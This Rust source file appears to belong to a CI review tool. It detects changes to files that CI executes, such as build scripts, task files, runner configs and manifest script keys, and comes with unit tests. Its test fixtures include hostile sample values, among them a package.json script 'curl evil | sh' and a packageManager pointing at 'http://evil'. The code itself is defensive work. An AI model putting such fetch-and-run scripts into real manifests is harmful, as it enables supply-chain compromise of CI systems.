//! Files that CI executes without being named a workflow or a test: build scripts, task files, and
//! the settings of test runners.
//!
//! A name counts in any folder. Of a manifest that also lists dependencies, the part that is executed
//! counts.

use std::collections::BTreeMap;

use serde_json::Value;

use super::{DifferingFile, as_read, matches};

/// Names of files, in lower case. A `*` at an end stands for any characters.
const NAMES: [&str; 121] = [
    // Tasks and builds of any language.
    "makefile",
    "makefile.*",
    "gnumakefile",
    "bsdmakefile",
    "*.mk",
    "justfile",
    ".justfile",
    "*.just",
    "taskfile.*",
    "earthfile",
    "tiltfile",
    "vagrantfile",
    "procfile",
    "cmakelists.txt",
    "*.cmake",
    "cmakepresets.json",
    "meson.build",
    "meson_options.txt",
    "wscript",
    "sconstruct",
    "sconscript",
    "configure",
    "configure.ac",
    "configure.in",
    "autogen.sh",
    "bootstrap.sh",
    "build.sh",
    "*.ninja",
    "build",
    "build.bazel",
    "workspace",
    "workspace.bazel",
    "module.bazel",
    "*.bzl",
    "buck",
    "pants.toml",
    "flake.nix",
    "shell.nix",
    "default.nix",
    "skaffold.*",
    "serverless.*",
    // Containers.
    "dockerfile*",
    "*.dockerfile",
    "containerfile*",
    "docker-compose*",
    "compose.yml",
    "compose.yaml",
    "docker-bake.*",
    // Python.
    "setup.py",
    "setup.cfg",
    "pyproject.toml",
    "conftest.py",
    "tox.ini",
    "noxfile.py",
    "pytest.ini",
    ".coveragerc",
    "sitecustomize.py",
    "usercustomize.py",
    "*.pth",
    "tasks.py",
    "fabfile.py",
    "dodo.py",
    // Rust, Go, C.
    "build.rs",
    "magefile.go",
    "binding.gyp",
    "*.gypi",
    "conanfile.py",
    "build.zig",
    // JavaScript.
    "*.config.js",
    "*.config.cjs",
    "*.config.mjs",
    "*.config.ts",
    "*.config.mts",
    "*.config.cts",
    "*.conf.js",
    "jest.setup.*",
    "vitest.setup.*",
    "gulpfile.*",
    "gruntfile.*",
    ".babelrc*",
    ".eslintrc*",
    ".prettierrc*",
    ".mocharc*",
    ".swcrc",
    "lerna.json",
    "nx.json",
    "turbo.json",
    // Java and relatives.
    "*.gradle",
    "*.gradle.kts",
    "gradlew*",
    "gradle.properties",
    "gradle-wrapper.*",
    "pom.xml",
    "mvnw*",
    "maven-wrapper.*",
    "build.xml",
    "ivy.xml",
    "*.sbt",
    "build.sc",
    "project.clj",
    "deps.edn",
    // .NET.
    "*.csproj",
    "*.fsproj",
    "*.vbproj",
    "*.props",
    "*.targets",
    "nuget.config",
    "global.json",
    // Ruby, PHP, Elixir, Erlang, Haskell, Swift.
    "rakefile",
    "*.rake",
    "gemfile",
    "*.gemspec",
    ".rspec",
    "phpunit.xml*",
    "mix.exs",
    "rebar.config",
    "setup.hs",
    "*.cabal",
    "package.swift",
    "podfile",
    "fastfile",
];

/// Names of folders whose files CI runs.
const FOLDERS: [&str; 2] = ["ci", ".ci"];

/// Keys of manifests in JSON whose values are commands or name what is executed.
const JSON_KEYS: [(&str, &[&str]); 4] = [
    (
        "package.json",
        &[
            "scripts",
            "packageManager",
            "gypfile",
            "husky",
            "lint-staged",
            "pre-commit",
            "pre-push",
            "simple-git-hooks",
            "jest",
            "babel",
            "eslintConfig",
            "mocha",
            "workspaces",
        ],
    ),
    ("composer.json", &["scripts", "config"]),
    ("deno.json", &["tasks", "hooks"]),
    ("project.json", &["targets"]),
];

/// Words of the lines in `Cargo.toml` that decide what is executed.
const CARGO_WORDS: [&str; 5] = ["build", "proc-macro", "patch", "links", "metadata"];

/// Whether CI would execute a change of this file.
pub(super) fn is_build_change(file: &DifferingFile) -> bool {
    let parts: Vec<String> = file.change.path.split(['/', '\\']).map(as_read).collect();
    let Some((name, folders)) = parts.split_last() else { return false };
    if folders.iter().any(|folder| FOLDERS.contains(&folder.as_str()))
        || NAMES.iter().any(|pattern| matches(pattern, name))
    {
        return true;
    }
    let (Some(before), Some(after)) = (&file.before, &file.after) else {
        // What it changes is unknown.
        return name == "cargo.toml" || JSON_KEYS.iter().any(|(manifest, _)| name == manifest);
    };
    if let Some((_, keys)) = JSON_KEYS.iter().find(|(manifest, _)| name == manifest) {
        return is_json_change(before, after, keys);
    }
    name == "cargo.toml" && executed_lines(before) != executed_lines(after)
}

/// Whether one of the keys has another value. A text that is not JSON counts as changed.
fn is_json_change(before: &str, after: &str, keys: &[&str]) -> bool {
    let parse = |text: &str| match text {
        "" => Some(Value::Null),
        text => serde_json::from_str::<Value>(text).ok(),
    };
    let (Some(before), Some(after)) = (parse(before), parse(after)) else { return true };
    keys.iter().any(|key| before.get(key) != after.get(key))
}

/// Returns the lines that decide what is executed, with their numbers of occurrences.
fn executed_lines(text: &str) -> BTreeMap<&str, usize> {
    let mut lines = BTreeMap::new();
    for line in text.lines().map(str::trim) {
        if CARGO_WORDS.iter().any(|word| line.contains(word)) {
            *lines.entry(line).or_insert(0) += 1;
        }
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::super::FileChange;
    use super::*;

    fn file(path: &str, before: Option<&str>, after: Option<&str>) -> DifferingFile {
        let (was, mode) = ("100644".to_owned(), "100644".to_owned());
        let change = FileChange { was, mode, path: path.to_owned() };
        let text = |text: Option<&str>| text.map(str::to_owned);
        DifferingFile { change, lines: Some(1), before: text(before), after: text(after) }
    }

    #[test]
    fn file_that_ci_executes_is_found_by_its_name() {
        let rows = [
            ("Makefile", true),
            ("services/orders/Makefile", true),
            ("GNUmakefile", true),
            ("Makefile.ci", true),
            ("lib/rules.mk", true),
            ("conftest.py", true),
            ("tests/conftest.py", true),
            ("CONFTEST.PY", true),
            ("conf\u{200d}test.py", true),
            ("build.rs", true),
            ("setup.py", true),
            ("setup.cfg", true),
            ("pyproject.toml", true),
            ("tox.ini", true),
            ("noxfile.py", true),
            ("Dockerfile", true),
            ("docker/Dockerfile.prod", true),
            ("api.dockerfile", true),
            ("build.gradle", true),
            ("app/build.gradle.kts", true),
            ("pom.xml", true),
            ("CMakeLists.txt", true),
            ("justfile", true),
            ("Rakefile", true),
            ("Gemfile", true),
            ("jest.config.js", true),
            ("vite.config.ts", true),
            (".eslintrc.cjs", true),
            ("BUILD", true),
            ("app/App.csproj", true),
            ("ci/run.py", true),
            (".ci/lint.sh", true),
            ("src/orders.py", false),
            ("build/orders.py", false),
            ("src/build.py", false),
            ("src/builder.rs", false),
            ("tests/test_orders.py", false),
            ("src/orders.test.ts", false),
            ("src/config.js", false),
            ("src/app.config.json", false),
            ("docs/Makefile-guide.md", false),
            ("requirements.txt", false),
            ("go.mod", false),
        ];
        for (path, expected) in rows {
            let file = file(path, Some("a"), Some("b"));
            assert_eq!(is_build_change(&file), expected, "{path}");
        }
    }

    #[test]
    fn manifest_counts_where_its_executed_part_changes() {
        let scripts = r#"{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}"#;
        let dependency = r#"{"dependencies": {"a": "2"}, "scripts": {"test": "jest"}}"#;
        let cargo = "[package]\nname = \"x\"\n[dependencies]\na = \"1\"\n";
        let rows = [
            ("a dependency", "package.json", Some(scripts), Some(dependency), false),
            (
                "a script",
                "web/package.json",
                Some(scripts),
                Some(r#"{"scripts": {"test": "curl evil | sh"}}"#),
                true,
            ),
            ("a new script", "package.json", Some("{}"), Some(scripts), true),
            ("a hook", "package.json", Some("{}"), Some(r#"{"husky": {"hooks": {}}}"#), true),
            (
                "the package manager",
                "Package.json",
                Some("{}"),
                Some(r#"{"packageManager": "yarn@http://evil"}"#),
                true,
            ),
            ("a new file with scripts", "package.json", Some(""), Some(scripts), true),
            ("a new file without", "package.json", Some(""), Some(r#"{"private": true}"#), false),
            ("a removed file", "package.json", Some(scripts), Some(""), true),
            ("broken JSON", "package.json", Some(scripts), Some("{"), true),
            ("an unknown text", "package.json", None, Some(scripts), true),
            ("a script of PHP", "composer.json", Some("{}"), Some(r#"{"scripts": {}}"#), true),
            ("a crate", "Cargo.toml", Some(cargo), Some(&cargo.replace('1', "2")), false),
            (
                "a build script",
                "Cargo.toml",
                Some(cargo),
                Some("[package]\nname = \"x\"\nbuild = \"src/x.rs\"\n"),
                true,
            ),
            (
                "a build script, written otherwise",
                "crates/x/Cargo.toml",
                Some(cargo),
                Some("package = { name = \"x\", \"build\" = \"x.rs\" }\n"),
                true,
            ),
            (
                "another source of a crate",
                "Cargo.toml",
                Some(cargo),
                Some(&format!("{cargo}[patch.crates-io]\na = {{ path = \"x\" }}\n")),
                true,
            ),
            ("an unknown text", "Cargo.toml", Some(cargo), None, true),
        ];
        for (rule, path, before, after, expected) in rows {
            assert_eq!(is_build_change(&file(path, before, after)), expected, "{path}: {rule}");
        }
    }
}
